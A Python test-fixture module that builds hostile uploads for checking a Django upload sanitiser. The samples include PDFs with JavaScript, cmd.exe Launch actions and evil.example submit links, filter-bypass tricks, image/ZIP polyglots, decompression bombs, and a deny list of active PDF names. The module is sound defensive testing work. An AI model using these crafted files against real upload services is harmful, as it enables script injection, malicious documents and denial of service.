"""A corpus of hostile uploads, built in memory (nothing large is committed), and the checks a served file must pass.

`CORPUS` maps a short name to `(factory, expected)`: the factory returns a fresh Django upload; `expected`
is "clean" (stored, but only as a rebuilt file) or the code of the ValidationError that refuses it.
`assert_inert(data, content_type)` is what every stored file, downloaded through the app, must satisfy.
The first four entries are the bypasses of issue 16 (see test_upload_sanitise.py for why they passed
the old checks).
"""
import io
import re
import struct
import tempfile
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from PIL import Image

from .upload_samples import _png_chunk, jpeg_bytes, pdf_bytes, pdf_with_js_in_object_stream, png_bytes

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
MB = 1024 * 1024


# --- building blocks ------------------------------------------------------------------------------

def _noise(n: int, seed: int = 7) -> bytes:
    """Deterministic incompressible bytes (a tiny LCG: no randomness in tests)."""
    out, x = bytearray(), seed
    for _ in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append((x >> 16) & 0xFF)
    return bytes(out)


def noisy_jpeg(size=(64, 64), **save) -> bytes:
    """A JPEG of a few kilobytes (noise compresses badly), so that something can hide past its first KB."""
    im = Image.frombytes("RGB", size, _noise(size[0] * size[1] * 3))
    out = io.BytesIO()
    im.save(out, "JPEG", quality=95, **save)
    return out.getvalue()


def png_from_chunks(*chunks: tuple[bytes, bytes], width=1, height=1, idat: bytes | None = None) -> bytes:
    """A 1×1 grey PNG with extra `chunks` (kind, data) between IHDR and IDAT."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00\x80") if idat is None else idat
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + b"".join(_png_chunk(k, d) for k, d in chunks)
            + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""))


def pdf_from_objects(objs: list[bytes], *, header=b"%PDF-1.4\n", between: dict[int, bytes] | None = None,
                     trailer_extra=b"", tail=b"") -> bytes:
    """A PDF with objects 1..n (`objs[0]` is the catalogue) and a correct xref; `between[i]` is raw text
    written before object i+1 (comments, junk), `tail` is appended after %%EOF."""
    out, offsets = header, []
    for i, body in enumerate(objs, 1):
        out += (between or {}).get(i - 1, b"")
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, trailer_extra, xref)
    return out + tail


def _stream(data: bytes, extra=b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CONTENT = _stream(b"BT /F1 12 Tf 72 720 Td (Plan) Tj ET")


def pdf_page(page_extra=b"", catalog_extra=b"", more=()) -> bytes:
    """Catalogue (1), pages (2), one page (3) with `page_extra`, its content (4), then `more` objects (5...)."""
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>", PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " + page_extra + b">>",
        CONTENT, *more,
    ])


def pdf_with_annot(annot: bytes, more=()) -> bytes:
    return pdf_page(page_extra=b"/Annots [5 0 R]", more=(annot, *more))


def encrypted_pdf(user_password: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password, R=6))
    return out.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def gif_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("P", (2, 2)).save(out, "GIF")
    return out.getvalue()


def jpeg_with_exif_gps() -> bytes:
    """A 40×20 phone photo turned 90° by EXIF (orientation 6) and carrying GPS coordinates (Taipei City Hall)."""
    im = Image.new("RGB", (40, 20), (10, 120, 200))
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (25.0, 2.0, 14.0), 3: "E", 4: (121.0, 33.0, 53.0)})
    out = io.BytesIO()
    im.save(out, "JPEG", exif=exif)
    data = out.getvalue()
    assert b"Exif" in data and Image.open(io.BytesIO(data)).getexif().get_ifd(0x8825), "the sample must carry GPS"
    return data


def png_with_exif_gps() -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (25.0, 2.0, 14.0), 3: "E", 4: (121.0, 33.0, 53.0)})
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (1, 2, 3)).save(out, "PNG", exif=exif)
    return out.getvalue()


def png_bomb() -> bytes:
    """10,000 × 6,000 one-bit pixels (60 million, over the limit of 50) in about 8 KB: decoded as RGB, 180 MB."""
    width, height = 10_000, 6_000
    row = b"\x00" + b"\x00" * (width // 8)
    comp, parts = zlib.compressobj(9), []
    for _ in range(height):
        parts.append(comp.compress(row))
    parts.append(comp.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", b"".join(parts))
            + _png_chunk(b"IEND", b""))


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header claims 65,000 × 65,000 pixels (4.2 billion)."""
    data = bytearray(jpeg_bytes())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


def apng() -> bytes:
    out = io.BytesIO()
    first, second = Image.new("RGB", (8, 8), (255, 0, 0)), Image.new("RGB", (8, 8), (0, 0, 255))
    first.save(out, "PNG", save_all=True, append_images=[second], duration=100, loop=0)
    return out.getvalue()


def cmyk_jpeg_with_comment() -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (8, 8), (0, 100, 100, 0)).save(out, "JPEG", comment=HTML)
    return out.getvalue()


def palette_png_with_text() -> bytes:
    im = Image.new("P", (4, 4), 1)
    im.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    out = io.BytesIO()
    im.save(out, "PNG", transparency=0, pnginfo=info)
    return out.getvalue()


# --- the four bypasses of issue 16 ----------------------------------------------------------------

def bypass_pdf_comment_stream() -> bytes:
    """The catalogue with /OpenAction and the /JavaScript action sit between `%stream` and `%endstream`
    comment lines; the xref still points at them, so every PDF reader runs the script."""
    # Objects 1 (catalogue) and 5 (the action) come first, wrapped in the comment lines; then 2-4.
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        5: b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned')) >>",
        2: PAGES,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        4: CONTENT,
    }
    out, offsets = b"%PDF-1.4\n", {}
    for num in (1, 5):
        out += b"%stream\n" if num == 1 else b""
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    out += b"%endstream\n"
    for num in (2, 3, 4):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 6))
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return out


def bypass_pdf_html_deep_in_stream() -> bytes:
    """A real PDF whose page content stream holds a whole HTML page, kilobytes from either end."""
    pad = b"% " + b"x" * 3000 + b"\n"
    content = pad + HTML + b"\n" + pad + b"BT /F1 12 Tf 72 720 Td (Plan) Tj ET"
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>", _stream(content),
        _stream(b"q Q\n" + pad),
    ])


def bypass_jpeg_html_padding_late_eoi() -> bytes:
    """A JPEG, then HTML, then 6 KB of padding and a final FF D9, so that the file "ends like a JPEG"."""
    return noisy_jpeg() + HTML + b" " * 6000 + b"\xff\xd9"


def bypass_png_html_in_text_chunk() -> bytes:
    """HTML in a tEXt chunk in the middle of a valid PNG, kilobytes from either end."""
    filler = b"Comment\x00" + b"." * 3000
    return png_from_chunks((b"tEXt", filler), (b"tEXt", b"Comment\x00" + HTML), (b"tEXt", filler + b"." * 3000))


# --- the corpus -----------------------------------------------------------------------------------

def _up(name, factory):
    return lambda: SimpleUploadedFile(name, factory() if callable(factory) else factory)


def sixty_megabytes(name="big.pdf") -> UploadedFile:
    """A 60 MB upload on disk (sparse: it costs no memory) whose bytes must never be read."""
    handle = tempfile.TemporaryFile()
    handle.write(b"%PDF-1.4\n")
    handle.truncate(60 * MB)
    handle.seek(0)

    class Unread(UploadedFile):
        def chunks(self, chunk_size=None):
            raise AssertionError("a 60 MB upload was read")

        def read(self, *args):
            raise AssertionError("a 60 MB upload was read")

    return Unread(file=handle, name=name, content_type="application/pdf", size=60 * MB)


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"

CORPUS = {
    # the bypasses of issue 16
    "bypass-pdf-comment-stream": (_up("plan.pdf", bypass_pdf_comment_stream), "clean"),
    "bypass-pdf-html-deep-in-stream": (_up("plan.pdf", bypass_pdf_html_deep_in_stream), "clean"),
    "bypass-jpeg-html-padding-late-eoi": (_up("site.jpg", bypass_jpeg_html_padding_late_eoi), "clean"),
    "bypass-png-html-in-text-chunk": (_up("site.png", bypass_png_html_in_text_chunk), "clean"),
    # PDFs with every kind of action
    "pdf-openaction-js": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/OpenAction 5 0 R", more=(JS_ACTION,))),
                          "clean"),
    "pdf-names-javascript": (_up("a.pdf", lambda: pdf_page(
        catalog_extra=b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>", more=(JS_ACTION,))), "clean"),
    "pdf-catalog-aa": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/AA << /WC 5 0 R >>", more=(JS_ACTION,))),
                       "clean"),
    "pdf-page-aa": (_up("a.pdf", lambda: pdf_page(page_extra=b"/AA << /O 5 0 R >>", more=(JS_ACTION,))), "clean"),
    "pdf-launch": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/OpenAction << /S /Launch /F (calc.exe) "
                                                               b"/Win << /F (cmd.exe) /P (/c calc) >> >>")), "clean"),
    "pdf-uri-link": (_up("a.pdf", lambda: pdf_with_annot(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://evil.example/) >> >>")),
        "clean"),
    "pdf-link-js": (_up("a.pdf", lambda: pdf_with_annot(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>", more=(JS_ACTION.replace(b"1)", b"2)"),))),
        "clean"),
    "pdf-submitform": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/OpenAction << /S /SubmitForm "
                                                                   b"/F << /FS /URL /F (https://evil.example/) >> >>")),
                       "clean"),
    "pdf-importdata": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/OpenAction << /S /ImportData /F (x.fdf) >>")),
                       "clean"),
    "pdf-gotor": (_up("a.pdf", lambda: pdf_page(catalog_extra=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share"
                                                              b"\\\\x.pdf) /D [0 /Fit] >>")), "clean"),
    "pdf-next-chain": (_up("a.pdf", lambda: pdf_page(
        catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", more=(JS_ACTION,))), "clean"),
    "pdf-embedded-file": (_up("a.pdf", lambda: pdf_page(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>",
        more=(b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
              _stream(b"MZ" + HTML, b"/Type /EmbeddedFile ")))), "clean"),
    "pdf-file-attachment-annot": (_up("a.pdf", lambda: pdf_with_annot(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>",
        more=(b"<< /Type /Filespec /F (a.html) /EF << /F 7 0 R >> >>",
              _stream(HTML, b"/Type /EmbeddedFile ")))), "clean"),
    "pdf-acroform-xfa": (_up("a.pdf", lambda: pdf_page(
        page_extra=b"/Annots [5 0 R]",
        catalog_extra=b"/AcroForm << /Fields [5 0 R] /XFA 6 0 R >>",
        more=(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (value) /Rect [0 0 100 20] "
              b"/AA << /K 7 0 R >> >>",
              _stream(b"<xdp:xdp><template><script contentType='application/x-javascript'>app.alert(1)</script>"
                      b"</template></xdp:xdp>"),
              JS_ACTION))), "clean"),
    "pdf-screen-rendition": (_up("a.pdf", lambda: pdf_with_annot(
        b"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (app.alert(1)) >> >>")),
        "clean"),
    "pdf-richmedia": (_up("a.pdf", lambda: pdf_with_annot(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>")),
        "clean"),
    "pdf-js-in-object-stream": (_up("a.pdf", pdf_with_js_in_object_stream), "clean"),
    "pdf-incremental-update-js": (_up("a.pdf", lambda: _incremental_js()), "clean"),
    "pdf-trailing-html-and-zip": (_up("a.pdf", lambda: pdf_bytes() + HTML + zip_bytes({"a.html": HTML})), "clean"),
    "pdf-html-in-info": (_up("a.pdf", lambda: pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>", CONTENT,
         b"<< /Title (" + HTML + b") /Author (<script>x</script>) >>"], trailer_extra=b"/Info 5 0 R ")), "clean"),
    "pdf-image-with-script-comment": (_up("a.pdf", lambda: _pdf_with_jpeg(noisy_jpeg(comment=HTML))), "clean"),
    # a string in a stream's own dictionary is written in the clear (streams cannot go into object streams):
    # the check of our output finds the markup there and refuses the file
    "pdf-markup-in-stream-dictionary": (_up("a.pdf", lambda: pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
         _stream(b"BT /F1 12 Tf 72 720 Td (Plan) Tj ET", b"/Note (" + HTML + b") ")])), "unsafe"),
    "pdf-encrypted": (_up("a.pdf", lambda: encrypted_pdf("secret")), "pdf_encrypted"),
    "pdf-encrypted-empty-password": (_up("a.pdf", lambda: encrypted_pdf("")), "pdf_encrypted"),
    "pdf-html-with-pdf-header": (_up("a.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"), "pdf_unreadable"),
    "pdf-truncated": (_up("a.pdf", lambda: pdf_bytes()[:60]), "pdf_unreadable"),
    # libmagic finds the %PDF header after the HTML; the rebuilt file starts with it and holds no HTML.
    "pdf-html-first": (_up("a.pdf", lambda: HTML + b"\n" + pdf_bytes()), "clean"),
    # images: trailing data, text and metadata chunks, EXIF, bombs, truncation, frames
    "png-trailing-html": (_up("a.png", lambda: png_bytes() + HTML), "clean"),
    "jpeg-trailing-html": (_up("a.jpg", lambda: jpeg_bytes() + HTML), "clean"),
    "jpeg-comment-html": (_up("a.jpg", lambda: noisy_jpeg(comment=HTML)), "clean"),
    "png-itxt-html": (_up("a.png", lambda: png_from_chunks((b"iTXt", b"Comment\x00\x00\x00en\x00\x00" + HTML))),
                      "clean"),
    "png-ztxt-html": (_up("a.png", lambda: png_from_chunks((b"zTXt", b"Comment\x00\x00" + zlib.compress(HTML)))),
                      "clean"),
    "png-iccp-garbage": (_up("a.png", lambda: png_from_chunks((b"iCCP", b"icc\x00\x00" + zlib.compress(HTML)))),
                         "clean"),
    "jpeg-exif-gps": (_up("photo.jpg", jpeg_with_exif_gps), "clean"),
    "png-exif-gps": (_up("photo.png", png_with_exif_gps), "clean"),
    "png-bomb": (_up("bomb.png", png_bomb), "image_pixels"),
    "jpeg-bomb": (_up("bomb.jpg", jpeg_bomb), "image_pixels"),
    "png-truncated": (_up("a.png", lambda: noisy_png()[:-300]), "image_damaged"),
    "jpeg-truncated": (_up("a.jpg", lambda: noisy_jpeg()[:1500]), "image_damaged"),
    "png-bad-idat": (_up("a.png", lambda: png_from_chunks(idat=b"not zlib at all")), "image_damaged"),
    "apng-two-frames": (_up("a.png", apng), "clean"),
    "cmyk-jpeg-with-comment": (_up("a.jpg", cmyk_jpeg_with_comment), "clean"),
    "palette-png-with-text": (_up("a.png", palette_png_with_text), "clean"),
    # polyglots
    "jpeg-plus-zip": (_up("a.jpg", lambda: noisy_jpeg() + zip_bytes({"Evil.class": b"\xca\xfe\xba\xbe" * 8})),
                      "clean"),
    "png-plus-zip": (_up("a.png", lambda: png_bytes() + zip_bytes({"index.html": HTML})), "clean"),
    "gifar-as-gif": (_up("a.gif", lambda: gif_bytes() + zip_bytes({"Evil.class": b"\xca\xfe"})), "type"),
    "gifar-as-png": (_up("a.png", lambda: gif_bytes() + zip_bytes({"Evil.class": b"\xca\xfe"})), "mismatch"),
    # wrong types and extensions
    "svg-with-script": (_up("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
                        "type"),
    "svg-as-png": (_up("a.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
                   "mismatch"),
    "html-as-jpg": (_up("a.jpg", HTML), "mismatch"),
    "html-page": (_up("a.html", HTML), "type"),
    "png-as-jpg": (_up("a.jpg", png_bytes), "mismatch"),
    "pdf-as-png": (_up("a.png", pdf_bytes), "mismatch"),
    "docm-with-macro": (_up("a.docm", lambda: zip_bytes({"word/vbaProject.bin": b"macro"})), "type"),
    "docm-as-pdf": (_up("a.pdf", lambda: zip_bytes({"word/vbaProject.bin": b"macro"})), "mismatch"),
    "exe-as-pdf": (_up("a.pdf", b"MZ\x90\x00" + b"\x00" * 200), "mismatch"),
    "no-extension": (_up("plan", pdf_bytes), "type"),
    "empty": (_up("empty.pdf", b""), "empty"),
    "sixty-megabytes": (sixty_megabytes, "size"),
}


def noisy_png() -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", (64, 64), _noise(64 * 64 * 3)).save(out, "PNG")
    return out.getvalue()


def _incremental_js() -> bytes:
    """A clean PDF and, appended as an incremental update, a new catalogue that runs JavaScript on open."""
    base = pdf_bytes()
    start = len(base)
    body = (b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n"
            b"5 0 obj\n" + JS_ACTION + b"\nendobj\n")
    second = body.index(b"5 0 obj")
    prev = int(re.search(rb"startxref\n(\d+)", base).group(1))
    xref = start + len(body)
    update = body + b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n5 1\n%010d 00000 n \n" % (
        start, start + second)
    update += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref)
    return base + update


def _pdf_with_jpeg(jpeg: bytes) -> bytes:
    """A page that draws a JPEG image kept in its DCT encoding (which qpdf never re-encodes)."""
    with Image.open(io.BytesIO(jpeg)) as im:
        w, h = im.size
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 "
             b"/Filter /DCTDecode /Length %d >>\nstream\n" % (w, h, len(jpeg)) + jpeg + b"\nendstream")
    return pdf_page(page_extra=b"/Resources << /XObject << /Im1 5 0 R >> >>", more=(image,))


# --- what a served file must satisfy -------------------------------------------------------------

_ACTIVE_PDF_NAMES = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFile", "/EmbeddedFiles", "/Launch",
                     "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/AcroForm", "/XFA", "/RichMedia", "/EF",
                     "/Rendition", "/Widget", "/FileAttachment", "/Screen"}
_PNG_KEPT_CHUNKS = {b"IHDR", b"PLTE", b"IDAT", b"IEND"}


def pdf_names(pdf) -> set[str]:
    """Every name used as a key or a value anywhere in the document (indirect objects, nested objects)."""
    found, stack, seen = set(), [pdf.trailer, *pdf.objects], set()
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Name):
            found.add(str(obj))
        elif isinstance(obj, pikepdf.Array):
            stack.extend(obj)
        elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            found.update(obj.keys())
            stack.extend(obj.values())
    return found


def assert_inert(data: bytes, content_type: str) -> None:
    """No markup, no active PDF content, no trailing data, no metadata a photo could leak (GPS)."""
    assert data, "an empty file was stored"
    assert b"<script" not in data.lower() and b"<html" not in data.lower(), "markup survived"
    if content_type == "application/pdf":
        assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF"), "trailing data after %%EOF"
        assert data.count(b"%%EOF") == 1 and data.count(b"startxref") == 1, "an incremental update survived"
        with pikepdf.open(io.BytesIO(data)) as pdf:
            active = pdf_names(pdf) & _ACTIVE_PDF_NAMES
            assert not active, f"active PDF content survived: {sorted(active)}"
            assert "/Info" not in pdf.trailer and len(pdf.pages) >= 1
        return
    with Image.open(io.BytesIO(data)) as im:
        im.load()
        assert not im.getexif(), "EXIF survived"
        assert not {"exif", "comment", "icc_profile", "xmp"} & set(im.info), f"metadata survived: {im.info.keys()}"
        assert getattr(im, "n_frames", 1) == 1
    if content_type == "image/png":
        assert data.startswith(b"\x89PNG\r\n\x1a\n")
        pos, kinds = 8, []
        while pos < len(data):
            length = int.from_bytes(data[pos:pos + 4], "big")
            kinds.append(data[pos + 4:pos + 8])
            pos += 12 + length
            if kinds[-1] == b"IEND":
                break
        assert pos == len(data), "data after IEND"
        assert set(kinds) <= _PNG_KEPT_CHUNKS, f"ancillary chunks survived: {kinds}"
    elif content_type == "image/jpeg":
        assert data.startswith(b"\xff\xd8")
        pos, markers = 2, []
        while data[pos + 1] != 0xDA:  # the segments before the image data (start of scan)
            markers.append(data[pos + 1])
            pos += 2 + int.from_bytes(data[pos + 2:pos + 4], "big")
        assert not {0xE1, 0xE2, 0xED, 0xFE} & set(markers), f"metadata segments survived: {markers}"
        # In the entropy-coded data every FF is followed by 00 or a restart marker: the first FF D9 is the end.
        assert data.index(b"\xff\xd9", pos) == len(data) - 2, "data after the end of the image"
    else:
        raise AssertionError(f"unexpected stored type {content_type}")


def pdf_object_stream_bomb(padding: int) -> bytes:
    """A PDF 1.5 whose catalogue and page tree live in a compressed object stream padded with `padding`
    spaces: qpdf must inflate the whole stream to read the document."""
    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>", PAGES]
    header, offset = b"", 0
    for num, body in zip((1, 2), bodies):
        header += b"%d %d " % (num, offset)
        offset += len(body) + 1
    objstm_data = header + b"\n" + b"\n".join(bodies) + b"\n"
    first = len(header) + 1
    comp, parts = zlib.compressobj(9), []
    parts.append(comp.compress(objstm_data))
    for _ in range(padding // MB):
        parts.append(comp.compress(b" " * MB))
    parts.append(comp.compress(b" " * (padding % MB)) + comp.flush())
    packed = b"".join(parts)
    out, offsets = b"%PDF-1.5\n", {}
    for num, body in (
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"),
        (4, CONTENT),
        (5, b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (first, len(packed))
         + packed + b"\nendstream"),
    ):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff",
            b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"),
            b"\x02" + (5).to_bytes(4, "big") + (1).to_bytes(2, "big")]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (3, 4, 5, 6)]
    xref = b"".join(rows)
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref)
            + xref + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return out
